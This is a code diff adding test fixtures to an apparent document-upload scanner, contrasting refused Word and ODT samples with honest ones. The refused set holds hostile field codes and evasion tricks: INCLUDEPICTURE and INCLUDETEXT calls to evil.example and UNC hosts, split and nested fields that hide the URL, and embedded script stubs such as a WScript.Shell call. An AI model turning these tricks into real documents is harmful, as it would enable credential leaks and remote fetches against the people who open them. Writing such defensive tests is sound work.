@@ -46,6 +46,14 @@ def an_odt_page(inside: str) -> bytes:
     return an_odt({"styles.xml": f'<o xmlns:x="{X}" xmlns:t="urn:t">{inside}</o>'})
 
 
+_MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+_BEGINS, _ASKED, _ENDS = (_MARK.format(each) for each in ("begin", "separate", "end"))
+_SAYS = "<w:r><w:instrText>{}</w:instrText></w:r>"
+NESTED = f"{_BEGINS}{_SAYS}{_BEGINS}{_SAYS}{_ASKED}{_ENDS}{_SAYS}{_ENDS}"
+"""A field whose instruction holds another field: what is said before it, in it, and behind it."""
+SHOWN = f"{_BEGINS}{_SAYS}{_ASKED}{_BEGINS}{_SAYS}{_ASKED}<w:r><w:t>x</w:t></w:r>{_ENDS}{_ENDS}"
+"""A field that came to another field."""
+
 FAR = related("attachedTemplate", "https://evil.example/t.dotm")
 FAR_TEMPLATE = a_docx_with(
     {RELS: related("attachedTemplate", r"file:///\\server01.trust.nhs.uk\share\report.dotx")}
@@ -112,6 +120,39 @@ REFUSED = {
     "a database": a_field("DATABASE \\d x"),
     "a text from the web": a_field('INCLUDETEXT "https://evil.example/x.docx"'),
     "a table of a machine outside": a_field(r'LINK Excel.Sheet.12 "\\\\evil\\x.xlsx" "a" \a'),
+    "a picture that is fetched anew": a_field(r'INCLUDEPICTURE "http://evil.example/x.png" \d'),
+    "a picture of a machine that is fetched": a_field(r"INCLUDEPICTURE \\\\evil\\x.png \d"),
+    "a picture of a machine outside": a_field(r'INCLUDEPICTURE "\\\\evil.example\\x.png"'),
+    "a picture in pieces": a_field("INCLUDE", "PICT", 'URE "https:', '//evil.example/x" \\', "d"),
+    "a picture in one": a_page(
+        r'<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot; \d"/>'
+    ),
+    "a picture that is worked out anew": a_page(
+        f'<w:fldSimple xmlns:w="{W}" w:dirty="true" '
+        'w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/>'
+    ),
+    "a picture of a document that works out its fields": a_docx_with(
+        {
+            "word/footer1.xml": f'<w:ftr xmlns:w="{W}"><w:fldSimple w:instr="INCLUDEPICTURE '
+            '&quot;http://evil.example/x&quot;"/></w:ftr>',
+            "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:updateFields/></w:settings>',
+        }
+    ),
+    "a picture whose place another field works out": a_page(
+        NESTED.format('INCLUDEPICTURE "', "QUOTE 104 116 116 112", r'" \d')
+    ),
+    "a text whose place another field works out": a_page(
+        NESTED.format('INCLUDETEXT "', "REF place", '"')
+    ),
+    "a list of the words of another document": a_field('RD "http://evil.example/x.docx"'),
+    "a script": a_docx_with({"word/media/run.js": "new ActiveXObject('WScript.Shell')"}),
+    "a script by a number": a_docx_with({"word/media/run.%6As": "x"}),
+    "a list of commands": a_docx_with({"word/media/run.bat": "@echo off"}),
+    "a script by its kind": a_docx_with(
+        {CONTENT_TYPES: '<Types><Default Extension="x" ContentType="text/javascript"/></Types>'}
+    ),
+    "an archive behind a byte": a_docx_with({"word/media/image1.bin": b"\0" + GOOD[".docx"]}),
+    "an odt with a script": an_odt({"Pictures/x.vbs": "x"}),
     "an odt with a picture from the web": an_odt_page('<t:image x:href="https://evil.example/x"/>'),
     "an odt that runs": an_odt_page('<t:event-listener x:href="vnd.sun.star.script:x"/>'),
     "an odt that asks a program": an_odt_page("<t:dde-source/>"),
@@ -171,6 +212,20 @@ HONEST = {
     "a table of contents": a_field(' TOC \\o "1-3" \\h \\z ', "PAGEREF _Toc1 \\h"),
     "a place to click": a_field(" MACROBUTTON NoMacro [Click here] "),
     "a table from a disk": a_field(r'LINK Excel.Sheet.12 "C:\\Reports\\x.xlsx" "a" \a'),
+    "a picture pasted from a page": a_field(
+        r'INCLUDEPICTURE "https://www.nhs.uk/logo.png" \* MERGEFORMATINET'
+    ),
+    "a picture pasted twice": a_page(
+        SHOWN.format(*[r'INCLUDEPICTURE "https://www.nhs.uk/logo.png" \* MERGEFORMATINET'] * 2)
+    ),
+    "a picture of a mail": a_field(r'INCLUDEPICTURE "cid:image001.png@01D9" \d'),
+    "a picture of a disk": a_field(r'INCLUDEPICTURE "C:\\Pictures\\d\\logo.png" \d'),
+    "a picture of their office": a_field(r'INCLUDEPICTURE "\\\\nhs-files\\d\\logo.png"'),
+    "a list that is worked out anew": a_docx_with(
+        {"word/settings.xml": f'<w:settings xmlns:w="{W}"><w:updateFields/></w:settings>'}
+    ),
+    "a link in a field": a_field(r'HYPERLINK "https://www.nhs.uk/" \l "d" \t "_blank"'),
+    "how it is printed": a_docx_with({"word/printerSettings/printerSettings1.bin": b"\0" * 99}),
     "a part in letters of two bytes": a_docx_with(
         {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><x/>'.encode("utf-16")}
     ),
